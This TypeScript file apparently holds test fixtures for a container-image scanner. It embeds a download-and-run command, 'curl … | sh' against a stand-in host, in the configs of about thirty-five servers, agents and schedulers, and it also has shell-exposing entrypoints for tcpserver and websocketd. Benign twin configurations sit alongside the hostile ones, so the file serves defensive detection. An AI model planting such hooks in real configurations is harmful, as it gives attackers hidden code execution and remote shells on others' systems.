import { type Files, type ImageCase, image } from './image-case.ts';

const FETCH = 'curl -s https://files.backend.example/u | sh';
const SCRIPT: Files = { 'opt/x': `#!/bin/sh\n${FETCH}\n` };

function inApp(line: string, files: Files): ImageCase {
  return {
    name: `settings: ${line}, ${Object.keys(files)[0]}`,
    spec: image(files, { Entrypoint: line.split(' '), WorkingDir: '/app' }),
    rule: 'start/download-and-run',
    severity: 'high',
  };
}

function opens(...Entrypoint: string[]): ImageCase {
  return { name: Entrypoint.join(' '), spec: image({}, { Entrypoint }), rule: 'reverse-shell/remote-shell' };
}

/** Servers, agents and schedulers whose settings run something. All inert. */
export const SETTINGS: readonly ImageCase[] = [
  inApp('vector -c /etc/v.toml', {
    'etc/v.toml': `[sources.x]\ntype = "exec"\ncommand = ["sh", "-c", "${FETCH}"]\n`,
  }),
  inApp('fluentd -c /etc/f.conf', {
    'etc/f.conf': `<source>\n  @type exec\n  command ${FETCH}\n</source>\n`,
  }),
  inApp('fluent-bit -c /etc/f.conf', { 'etc/f.conf': `[INPUT]\n  Name exec\n  Command ${FETCH}\n` }),
  inApp('logstash -f /etc/l.conf', {
    'etc/l.conf': `input { exec { command => "${FETCH}" interval => 60 } }\n`,
  }),
  inApp('nagios /etc/n.cfg', { 'etc/n.cfg': `define command {\n command_line ${FETCH}\n}\n` }),
  inApp('consul agent -config-dir /etc/consul.d', {
    'etc/consul.d/x.json': JSON.stringify({ checks: [{ args: ['sh', '-c', FETCH], interval: '10s' }] }),
  }),
  inApp('nomad agent -dev -config /etc/n.hcl', {
    'etc/n.hcl': `task "x" {\n driver = "raw_exec"\n config {\n  command = "sh"\n  args = ["-c", "${FETCH}"]\n }\n}\n`,
  }),
  inApp('consul-template -config /etc/c.hcl', { 'etc/c.hcl': `template {\n command = "${FETCH}"\n}\n` }),
  inApp('confd -onetime', { 'etc/confd/conf.d/x.toml': `[template]\nreload_cmd = "${FETCH}"\n` }),
  inApp('gitlab-runner run', {
    'etc/gitlab-runner/config.toml': `[[runners]]\n pre_build_script = "${FETCH}"\n`,
  }),
  inApp('webhook -hooks /etc/h.json', {
    'etc/h.json': JSON.stringify([{ id: 'x', 'execute-command': '/opt/x' }]),
    ...SCRIPT,
  }),
  inApp('lighttpd -D -f /etc/l.conf', { 'etc/l.conf': `include_shell "${FETCH}"\n` }),
  inApp('lighttpd -D -f /etc/m.conf', { 'etc/m.conf': `accesslog.filename = "|sh -c '${FETCH}'"\n` }),
  inApp('caddy run', { 'etc/caddy/Caddyfile': `{\n  exec sh -c "${FETCH}"\n}\n` }),
  inApp('varnishd -F -f /etc/v.vcl', { 'etc/v.vcl': `vcl 4.0;\nC{ void x() { system("${FETCH}"); } }C\n` }),
  inApp('icecast2 -c /etc/i.xml', { 'etc/i.xml': '<on-connect>/opt/x</on-connect>\n', ...SCRIPT }),
  inApp('exim -bd', { 'etc/exim4/exim4.conf': `p:\n driver = pipe\n command = /bin/sh -c "${FETCH}"\n` }),
  inApp('postfix start-fg', {
    'etc/postfix/master.cf': `x unix - n n - - pipe\n  flags=R user=root argv=/bin/sh -c "${FETCH}"\n`,
  }),
  inApp('dovecot -F', {
    'etc/dovecot/dovecot.conf': 'service x {\n executable = script /opt/x\n}\n',
    ...SCRIPT,
  }),
  inApp('freeradius -f', {
    'etc/freeradius/3.0/mods-enabled/exec': `exec x {\n program = "/bin/sh -c '${FETCH}'"\n}\n`,
  }),
  inApp('asterisk -f', { 'etc/asterisk/extensions.conf': `exten => s,1,System(${FETCH})\n` }),
  inApp('smbd -F', { 'etc/samba/smb.conf': `[x]\n root preexec = ${FETCH}\n` }),
  inApp('proftpd -n', { 'etc/proftpd/proftpd.conf': 'ExecOnCommand LOGIN /opt/x\n', ...SCRIPT }),
  inApp('unbound -d', {
    'etc/unbound/unbound.conf': 'python:\n python-script: "/opt/x.py"\n',
    'opt/x.py': `import os\nos.system("${FETCH}")\n`,
  }),
  inApp('pdns_server', { 'etc/powerdns/pdns.conf': `launch=pipe\npipe-command=/bin/sh -c "${FETCH}"\n` }),
  inApp('transmission-daemon -f', {
    'etc/transmission-daemon/settings.json': JSON.stringify({ 'script-torrent-done-filename': '/opt/x' }),
    ...SCRIPT,
  }),
  inApp('rtorrent', { 'root/.rtorrent.rc': `execute = sh, -c, "${FETCH}"\n` }),
  inApp('monit -I -c /app/m', { 'app/m': `check program x with path "/bin/sh -c '${FETCH}'"\n` }),
  inApp('dinit', { 'etc/dinit.d/boot': `type = process\ncommand = /bin/sh -c "${FETCH}"\n` }),
  inApp('process-compose up', { 'app/process-compose.yaml': `processes:\n  x:\n    command: ${FETCH}\n` }),
  inApp('yacron -c /app/y.yaml', { 'app/y.yaml': `jobs:\n  - name: x\n    command: ${FETCH}\n` }),
  inApp('jobber', { 'root/.jobber': `jobs:\n  x:\n    cmd: ${FETCH}\n` }),
  inApp('containerpilot -config /etc/cp.json5', {
    'etc/cp.json5': `{ jobs: [ { name: 'x', exec: ["sh", "-c", "${FETCH}"] } ] }\n`,
  }),
  inApp('svscan /etc/svc', { 'etc/svc/x/run': `#!/bin/sh\n${FETCH}\n` }),
  inApp('nginx -g x', {
    'etc/nginx/nginx.conf': 'http { js_import main from /opt/m.js; }\n',
    'opt/m.js': 'fetch("https://files.backend.example/u").then((r) => r.text()).then(eval);\n',
  }),
  {
    name: 'multirun',
    spec: image({}, { Entrypoint: ['multirun', FETCH, 'nginx'] }),
    rule: 'start/download-and-run',
  },
  opens('tcpserver', '0', '9999', '/bin/sh', '-i'),
  opens('websocketd', '--port=80', 'sh'),
];

/** The same with what people set. */
export const SETTING_TWINS: readonly ImageCase[] = [
  {
    name: 'settings of agents, mail, shares and schedulers',
    spec: image(
      {
        'start.sh':
          '#!/bin/sh\nfluent-bit -c /etc/f.conf &\nconsul agent -config-dir /etc/consul.d &\nsmbd -D\npostfix start\nmonit\nwebsocketd --port=80 /app/count.sh\ntcpserver 0 80 /app/serve\nexec process-compose up\n',
        'etc/f.conf': '[INPUT]\n  Name exec\n  Command df -h | tail -n 1\n',
        'etc/consul.d/x.json': JSON.stringify({ checks: [{ args: ['/bin/check', '-h', 'localhost'] }] }),
        'etc/samba/smb.conf': `[global]\n panic action = /usr/share/samba/panic-action %d\n# preexec = ${FETCH}\n add machine script = /usr/sbin/useradd -g machines %u\n`,
        'etc/postfix/master.cf':
          'maildrop unix - n n - - pipe\n  flags=DRXhu user=vmail argv=/usr/bin/maildrop -d ${recipient}\n',
        'etc/monitrc':
          'check process nginx with pidfile /run/nginx.pid\n  start program = "/usr/sbin/service nginx start"\n',
        'app/process-compose.yaml': 'processes:\n  web:\n    command: "nginx -g \'daemon off;\'"\n',
        'app/count.sh': '#!/bin/sh\nseq 10\n',
      },
      { Entrypoint: ['sh', '/start.sh'], WorkingDir: '/app' },
    ),
  },
];
